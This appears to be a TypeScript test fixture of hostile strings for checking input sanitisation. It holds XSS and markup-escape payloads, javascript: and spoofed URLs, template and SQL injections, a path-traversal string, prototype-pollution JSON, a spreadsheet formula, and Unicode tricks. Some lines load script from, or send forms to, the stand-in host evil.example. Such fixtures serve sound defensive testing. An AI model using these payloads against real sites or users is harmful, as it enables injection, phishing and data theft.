// Texts that try to be more than text: scripts and markup (after OWASP's cheat sheets on script injection), Markdown and
// template injections, addresses that act, characters that turn, hide, pile up or pretend. What runs sets `__owned`.

const OWN = 'window.__owned=1';

/** Markup, and the ways out of attributes and elements. */
export const MARKUP: readonly string[] = [
  `<script>${OWN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${OWN}</scr</script>ipt>`,
  `<img src=x onerror=${OWN}>`,
  `<IMG """><SCRIPT>${OWN}</SCRIPT>"\\>`,
  `<img src="x" onerror="&#119;indow.__owned=1">`,
  `<img/src/onerror=${OWN}>`,
  `<svg onload=${OWN}>`,
  `<svg><script>${OWN}</script></svg>`,
  `<svg><animate onbegin=${OWN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${OWN}>`,
  `<body onload=${OWN}>`,
  `<iframe srcdoc="<script>parent.__owned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__owned=1"></iframe>`,
  `<object data="javascript:${OWN}"></object>`,
  `<embed src="data:text/html,<script>${OWN}</script>">`,
  `<details open ontoggle=${OWN}>`,
  `<input autofocus onfocus=${OWN}>`,
  `<video><source onerror=${OWN}></video>`,
  `<marquee onstart=${OWN}>`,
  `<form action=https://evil.example><button>Sign in again</button></form>`,
  `<a href="javascript:${OWN}">press me</a>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>*{display:none}body{background:url(https://evil.example/x)}</style>`,
  `<div style="position:fixed;inset:0;background:red">over everything</div>`,
  `"><script>${OWN}</script>`,
  `'"--></style></title></textarea><script>${OWN}</script>`,
  `</p></article></li></ol></section></main><h1>Out</h1>`,
  `<!--<img src="--><img src=x onerror=${OWN}//">`,
  `<![CDATA[<script>${OWN}</script>]]>`,
  `&lt;script&gt;${OWN}&lt;/script&gt; &amp; &#60;b&#62; &nbsp;`,
  `\\u003cscript\\u003e${OWN}\\u003c/script\\u003e \\x3cb\\x3e %3Cscript%3E`,
  '<b>bold</b> <i>slanted</i> <h1>large</h1><br><hr>',
];

/** Addresses that act, and addresses that pretend. */
export const ADDRESSES: readonly string[] = [
  `javascript:${OWN}`,
  `JaVaScRiPt:${OWN}`,
  ` java\tscript:${OWN}`,
  `javascript://example.org/%0a${OWN}`,
  `vbscript:msgbox(1) data:text/html;base64,PHNjcmlwdD4=`,
  `https://example.org/"onmouseover="${OWN}`,
  `https://example.org/<script>${OWN}</script>`,
  `http://javascript:${OWN}@example.org/`,
  'https://kith.example@evil.example/ and https://еxample.org/ and //evil.example',
  'https://example.org/\u202egpj.exe',
  `http://[::1]/ http:// https:// http://%zz https://${'a'.repeat(3_000)}`,
  `https://example.org/${'('.repeat(2_000)}${')'.repeat(2_000)}`,
];

/** What other programs would read as more than text. */
export const FORMATS: readonly string[] = [
  `[press me](javascript:${OWN})`,
  `![x](https://evil.example/x.png) ![x](x"onerror="${OWN})`,
  `[a]: javascript:${OWN}\n[a] <javascript:${OWN}>`,
  `\`\`\`html\n<script>${OWN}</script>\n\`\`\``,
  '# Heading\n\n> quote\n\n| a | b |\n|---|---|\n**bold** _slanted_ ~~gone~~',
  `{{constructor.constructor('${OWN}')()}} {{7*7}} <%= 7*7 %> #{7*7}`,
  `\${${OWN}} \${7*7} @{7*7} [[\${7*7}]]`,
  '%s %d %n %x {0} $1 $& $$ \\1',
  `'; DROP TABLE users; -- ' OR '1'='1`,
  '../../../../etc/passwd\\..\\..\\windows',
  '{"__proto__":{"owned":1},"constructor":{"prototype":{"owned":1}}}',
  '__proto__ constructor prototype toString hasOwnProperty undefined null NaN',
  '=HYPERLINK("https://evil.example","press me") +1 -1 @SUM(1)',
];

/** Marks that pile up above and below their letters. */
export const PILES: readonly string[] = [
  `${'\u0489\u0311\u033e\u0e47'.repeat(3)}Z${'\u0336\u0310\u0353'.repeat(40)}algo${'\u0300\u0316'.repeat(200)}`,
  `ก${'็'.repeat(300)} ${'์'.repeat(300)}`,
];

/** Characters that turn, hide, pretend, pile up, or never end. */
export const CHARACTERS: readonly string[] = [
  '\u202eturned round\u202c and back',
  '\u202e\u202e\u202enever turned back',
  '\u2067isolated and never let go',
  'a\u200bb\u200cc\u200dd\u2060e\ufefff',
  '\u200b\u200b\u200bhidden around\u200b\u200b',
  'аdmin Аda ΑDA Ada\u0307 𝒜𝒹𝒶 Ⓐⓓⓐ',
  'مرحبا بالعالم, hello, שלום עולם (1) [2] {3}',
  ...PILES,
  'x'.repeat(6_000),
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(60),
  `${'﷽'.repeat(60)}`,
  '꧅꧅꧅꧅꧅꧅꧅꧅꧅꧅ ⸻⸻⸻⸻⸻⸻⸻⸻ 𒐫𒐫𒐫𒐫𒐫𒐫',
  `${'line\n'.repeat(40)}end`,
  '\u2028one\u2029two\u0085three\u00a0four',
  '\u{e0041}\u{e0042}tags\u{e007f} \u{f0000} \ufffd \uffff',
  'E\u0301 É ﬁ ſ İı ß ẞ',
  '́́́́starts with marks',
];

/** All of them. */
export const HOSTILE: readonly string[] = [...MARKUP, ...ADDRESSES, ...FORMATS, ...CHARACTERS];

/** Those that fit into a name, cut to its length. */
export function hostileNames(max: number): string[] {
  return HOSTILE.map((text) => text.trim().slice(0, max).trim().toWellFormed());
}
